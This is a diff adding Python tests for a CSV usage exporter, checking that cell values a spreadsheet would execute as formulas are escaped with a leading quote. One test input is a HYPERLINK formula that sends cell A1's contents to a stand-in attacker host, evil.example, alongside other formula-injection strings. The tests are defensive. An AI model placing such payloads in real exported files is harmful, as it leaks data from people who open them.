@@ -112,6 +112,38 @@ def test_it_prints_csv(usage):
     assert rows[1]["utilization"] == ""
 
 
+@pytest.mark.parametrize(
+    "name",
+    [
+        '=HYPERLINK("http://evil.example/?d="&A1,"Click")',
+        "+1+cmd",
+        "-2+3",
+        "@SUM(A1)",
+        "\tTab",
+        "\rReturn",
+    ],
+)
+def test_it_quotes_cells_a_spreadsheet_would_run_as_formulas(usage, name):
+    usage.vendor_name = name
+    usage.save()
+
+    out, _ = run("--org", "acme.io", "--month", "2026-10", "--format", "csv")
+
+    rows = list(csv.DictReader(io.StringIO(out)))
+    assert rows[0]["vendor_name"] == "'" + name
+    assert rows[0]["active_users"] == "1"
+
+
+def test_it_leaves_ordinary_names_as_they_are(usage):
+    usage.vendor_name = "Slack = chat"
+    usage.save()
+
+    out, _ = run("--org", "acme.io", "--month", "2026-10", "--format", "csv")
+
+    rows = list(csv.DictReader(io.StringIO(out)))
+    assert rows[0]["vendor_name"] == "Slack = chat"
+
+
 def test_it_finds_the_organization_by_public_id(usage, organization):
     out, _ = run("--org", organization.public_id, "--month", "2026-11")
 
